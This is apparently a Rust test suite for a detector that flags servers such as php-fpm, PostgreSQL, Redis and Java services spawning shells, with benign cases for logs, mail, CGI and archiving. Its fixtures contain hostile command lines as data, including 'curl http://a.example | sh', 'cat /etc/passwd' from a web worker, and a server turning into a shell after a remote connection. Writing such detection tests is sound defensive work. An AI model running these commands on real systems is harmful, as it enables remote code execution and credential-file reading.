//! Servers that start shells, and servers at work.

use super::{super::scene::*, *};

const FAR: &str = "198.51.100.7:50000";

fn scene() -> Scene {
    let mut scene = Scene::new(ServerShell::new());
    scene
        .runs(700, 1, "/usr/sbin/nginx")
        .runs_as(701, 700, 33, "/usr/sbin/php-fpm8.3")
        .runs_as(702, 1, 999, "/usr/lib/postgresql/17/bin/postgres")
        .runs_as(703, 1, 990, "/usr/bin/java");
    scene
}

#[test]
fn a_web_shell() {
    let mut scene = scene();
    let argv = ["sh", "-c", "cat /etc/passwd"];
    let alerts = scene.spawns(701, 800, "/usr/bin/dash", &argv, |_| {});
    assert_eq!(ids(&alerts), ["web-server-shell"]);
    assert!(
        alerts[0].reason.contains("php-fpm8.3"),
        "{}",
        alerts[0].reason
    );
    let alerts = scene.spawns(700, 801, "/usr/bin/id", &["id"], |_| {});
    assert_eq!(ids(&alerts), ["web-server-shell"]);
    let alerts = scene.spawns(
        701,
        802,
        "/usr/bin/wget",
        &["wget", "http://a.example"],
        |_| {},
    );
    assert_eq!(ids(&alerts), ["web-server-shell"]);
}

#[test]
fn a_database_that_runs_programs() {
    let mut scene = scene();
    let argv = ["sh", "-c", "id > /tmp/x"];
    let alerts = scene.spawns(702, 800, "/bin/sh", &argv, |_| {});
    assert_eq!(ids(&alerts), ["database-shell"]);
    let alerts = scene.spawns(
        702,
        801,
        "/usr/bin/python3",
        &["python3", "-c", "1"],
        |_| {},
    );
    assert_eq!(ids(&alerts), ["database-shell"]);
}

#[test]
fn a_server_that_becomes_a_shell() {
    let mut scene = scene();
    scene.runs(710, 1, "/usr/bin/redis-server");
    scene.accepts(710, FAR);
    let alerts = scene.execs(710, "/bin/sh", &["sh"], |_| {});
    assert_eq!(ids(&alerts), ["database-shell"]);
    assert!(alerts[0].reason.contains("became"), "{}", alerts[0].reason);
    // What the shell does then is not found again.
    assert!(scene.execs(710, "/bin/sh", &["sh"], |_| {}).is_empty());
}

#[test]
fn a_server_that_forks_twice_is_not_lost() {
    let mut scene = scene();
    scene.accepts(703, FAR);
    for (server, between, shell, rule) in [
        (701, 801, 802, "web-server-shell"),
        (703, 803, 804, "application-server-shell"),
    ] {
        scene.forks(server, between);
        scene.forks(between, shell);
        scene.exits(between, 0);
        // The host's first process has adopted it.
        let alerts = scene.execs(shell, "/bin/sh", &["sh"], |exec| {
            exec.parent = process_id(1);
        });
        assert_eq!(ids(&alerts), [rule]);
    }
    // A shell that a child of the server starts, which is another program, is that program's.
    scene.spawns(701, 805, "/usr/bin/rotatelogs", &["rotatelogs"], |_| {});
    assert!(
        scene
            .spawns(805, 806, "/bin/sh", &["sh"], |_| {})
            .is_empty()
    );
}

#[test]
fn a_service_that_took_a_connection() {
    let mut scene = scene();
    let argv = ["sh", "-c", "curl http://a.example | sh"];
    assert!(scene.spawns(703, 800, "/bin/sh", &argv, |_| {}).is_empty());
    scene.accepts(703, FAR);
    let alerts = scene.spawns(703, 801, "/bin/sh", &argv, |_| {});
    assert_eq!(ids(&alerts), ["application-server-shell"]);
    assert_eq!(alerts[0].evidence.len(), 2);
}

#[test]
fn mail_logs_and_cgi_are_normal() {
    let mut scene = scene();
    let argv = ["sh", "-c", "/usr/sbin/sendmail -t -i"];
    assert!(scene.spawns(701, 800, "/bin/sh", &argv, |_| {}).is_empty());
    let argv = ["sh", "-c", "exec /usr/bin/rotatelogs /var/log/x 86400"];
    assert!(scene.spawns(700, 801, "/bin/sh", &argv, |_| {}).is_empty());
    let cgi = |exec: &mut Exec| {
        exec.filename = text(b"/usr/lib/cgi-bin/status");
        exec.interpreter = text(b"/bin/sh");
    };
    let argv = ["/bin/sh", "/usr/lib/cgi-bin/status"];
    assert!(scene.spawns(700, 802, "/bin/dash", &argv, cgi).is_empty());
    // A worker of its own.
    assert!(
        scene
            .spawns(700, 803, "/usr/sbin/nginx", &["nginx"], |_| {})
            .is_empty()
    );
}

#[test]
fn archives_and_wrappers_are_normal() {
    let mut scene = scene();
    let argv = ["sh", "-c", "test ! -f /archive/1 && cp pg_wal/1 /archive/1"];
    assert!(scene.spawns(702, 800, "/bin/sh", &argv, |_| {}).is_empty());
    // A container's entry script becomes the database.
    scene.runs_contained(720, 1, "/bin/bash");
    assert!(
        scene
            .execs(720, "/usr/sbin/mysqld", &["mysqld"], |_| {})
            .is_empty()
    );
    // The shell that starts a server is none of its own.
    assert!(
        scene
            .spawns(1, 730, "/bin/sh", &["sh", "/usr/sbin/apachectl"], |_| {})
            .is_empty()
    );
    assert!(
        scene
            .spawns(730, 731, "/usr/sbin/apache2", &["apache2"], |_| {})
            .is_empty()
    );
}

#[test]
fn sessions_and_scripts_of_services_are_normal() {
    let mut scene = scene();
    // A developer's server in an SSH session.
    scene
        .runs(740, 1, "/usr/sbin/sshd")
        .runs(741, 740, "/bin/bash");
    scene.spawns(741, 742, "/usr/bin/node", &["node", "server.js"], |_| {});
    scene.accepts(742, FAR);
    assert!(
        scene
            .spawns(742, 743, "/bin/sh", &["sh", "-c", "git status"], |_| {})
            .is_empty()
    );
    scene.accepts(703, FAR);
    let argv = ["sh", "/opt/app/bin/rotate.sh"];
    assert!(scene.spawns(703, 744, "/bin/sh", &argv, |_| {}).is_empty());
}

#[test]
fn copes_with_anything_and_stays_bounded() {
    withstands(ServerShell::new);
    let mut scene = scene();
    let mut detector = ServerShell::new();
    let image = scene.process(703).image.clone();
    let accept = Body::Accept(connection(FAR));
    for tgid in 0..30_000 {
        let process = Process {
            image: image.clone(),
            ..Process::unknown(crate::event::arbitrary::boot(), process_id(tgid))
        };
        let event = scene.event(None, accept.clone());
        detector.serves(&event, &process);
    }
    assert_eq!(detector.servers.len(), SERVERS_MAX);
    assert_eq!(detector.servers.evicted(), 30_000 - SERVERS_MAX as u64);
}
